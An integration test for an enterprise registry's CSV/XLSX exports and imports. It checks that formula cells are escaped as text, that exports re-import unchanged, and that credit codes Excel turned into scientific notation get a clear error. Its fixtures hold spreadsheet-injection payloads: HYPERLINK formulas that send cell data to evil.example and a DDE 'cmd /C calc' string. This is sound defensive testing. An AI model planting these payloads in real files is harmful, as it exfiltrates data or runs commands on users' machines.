import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';

import { withCheckCharacter } from '@app/registry';
import { binary } from '../setup/binary';
import { createTestApp, TestApp } from '../setup/test-app';

const EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击")';
const EVIL_CONTACT = '=HYPERLINK("http://evil.example/?c="&B2,"联系人")';
const EVIL_ADDRESS = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const PHONE = '+86 574 8765 4321';

/** A valid credit code of digits only, which Excel shows as 9.13303E+17 when it opens a CSV. */
function digitsOnlyCode(start: number): string {
  for (let i = start; ; i++) {
    const code = withCheckCharacter(`91330211${String(i).padStart(9, '0')}`);
    if (/^\d{18}$/.test(code)) return code;
  }
}

describe('exports Excel cannot corrupt, and imports that explain what Excel did', () => {
  let t: TestApp;
  let staff: Record<string, string>;
  let code: string;
  let id: string;

  const download = async (path: string) => (await t.http.get(path).set(staff).buffer(true).parse(binary as never).expect(200)) as { body: Buffer; headers: Record<string, string> };
  const importFile = (kind: string, body: Buffer, name: string, dryRun = true) =>
    t.http.post(`/api/v1/imports/${kind}?dryRun=${dryRun}`).set(staff).attach('file', body, name);

  beforeAll(async () => {
    t = await createTestApp();
    staff = await t.as('BUREAU_STAFF');
    code = digitsOnlyCode(Date.now() % 1_000_000);
    const created = await t.http
      .post('/api/v1/enterprises')
      .set(staff)
      .send({ creditCode: code, name: EVIL_NAME, districtCode: '330211', industryCode: '3411', contactPhone: PHONE, address: EVIL_ADDRESS })
      .expect(201);
    id = created.body.id;
    // A liaison's contact change applies without review: the way such a value gets in unseen.
    const liaison = await t.as('LIAISON', { enterpriseIds: [id] });
    const applied = await t.http.post(`/api/v1/enterprises/${id}/change-requests`).set(liaison).send({ version: created.body.version, profile: { contactPerson: EVIL_CONTACT } }).expect(201);
    expect(applied.body.status).toBe('APPLIED');
    await t.http.post('/api/v1/designations').set(staff).send({ enterpriseId: id, type: 'LITTLE_GIANT', level: 'NATIONAL', status: 'RECOGNISED', recognisedOn: '2022-07-20' }).expect(201);
  });
  afterAll(() => t.close());

  it('marks formulas and all-digit codes in the CSV, recommends the XLSX, and imports the file back unchanged', async () => {
    const res = await download(`/api/v1/exports/enterprises?format=csv&q=${encodeURIComponent('点击')}`);
    expect(res.headers.link).toMatch(/^<\/api\/v1\/exports\/enterprises\?format=xlsx&q=[^>]+>; rel="alternate"/);
    const rows: Record<string, string>[] = parse(res.body.toString('utf8'), { bom: true, columns: true });
    const row = rows.find((r) => r['企业名称'].includes('HYPERLINK'))!;
    // The apostrophe keeps each cell text: Excel neither runs it nor turns the code into 9.13303E+17.
    expect(row).toMatchObject({ 统一社会信用代码: `'${code}`, 企业名称: `'${EVIL_NAME}`, 联系人: `'${EVIL_CONTACT}`, 联系电话: `'${PHONE}`, 地址: `'${EVIL_ADDRESS}` });

    const back = await importFile('enterprises', res.body, 'export.csv', false).expect(200);
    expect(back.body.counts).toEqual({ created: 0, updated: 0, unchanged: rows.length, rejected: 0 });
    const stored = (await t.http.get(`/api/v1/enterprises/${id}`).set(staff).expect(200)).body;
    expect(stored).toMatchObject({ creditCode: code, name: EVIL_NAME, contactPerson: EVIL_CONTACT, contactPhone: PHONE, address: EVIL_ADDRESS });
  });

  it('marks formulas in the XLSX as text, keeps the code as it is, and imports the file back unchanged', async () => {
    const res = await download('/api/v1/exports/enterprises?format=xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as never);
    const sheet = workbook.worksheets[0];
    expect(sheet.getCell('A1').value).toBe('统一社会信用代码');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1 });
    expect(sheet.getColumn(1).width).toBe(30);
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(1).value === code)!;
    expect(row.getCell(2).value).toBe(`'${EVIL_NAME}`);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    const contact = sheet.getRow(1).values as string[];
    expect(row.getCell(contact.indexOf('联系人')).value).toBe(`'${EVIL_CONTACT}`);

    const back = await importFile('enterprises', res.body, 'export.xlsx').expect(200);
    expect(back.body.counts).toMatchObject({ created: 0, updated: 0, rejected: 0 });
  });

  it('marks the enterprise name in designation exports too', async () => {
    const csv = await download('/api/v1/exports/designations?format=csv');
    const rows: Record<string, string>[] = parse(csv.body.toString('utf8'), { bom: true, columns: true });
    expect(rows.find((r) => r['统一社会信用代码'] === `'${code}`)).toMatchObject({ 企业名称: `'${EVIL_NAME}` });
    const xlsx = await download('/api/v1/exports/designations?format=xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as never);
    const values = workbook.worksheets[0].getSheetValues().flat();
    expect(values).toContain(`'${EVIL_NAME}`);
    expect(values).not.toContain(EVIL_NAME);
  });

  it('explains a credit code Excel turned into scientific notation, in every import that names enterprises', async () => {
    // What Excel saves for 913302817878987490 after opening a CSV: the last digits are gone.
    const mangled = '9.13303E+17';
    const enterprises = Buffer.from(`统一社会信用代码,企业名称,所属区县代码,行业代码\r\n${mangled},宁波科学计数法测试有限公司,330211,3411\r\n`);
    const figures = Buffer.from(`统一社会信用代码,年度,营业收入(元)\r\n${mangled},2022,1000000\r\n`);
    for (const [kind, file] of [['enterprises', enterprises], ['figures', figures]] as const) {
      const res = await importFile(kind, file, 'edited-in-excel.csv').expect(200);
      expect([kind, res.body.counts.rejected]).toEqual([kind, 1]);
      const [error] = res.body.errors;
      expect(error).toMatchObject({ line: 2, column: '统一社会信用代码', code: 'CREDIT_CODE_SCIENTIFIC_NOTATION' });
      expect(error.message).toContain(mangled);
      expect(error.message).toContain('科学计数法');
      expect(error.message).toContain('XLSX');
    }
  });
});
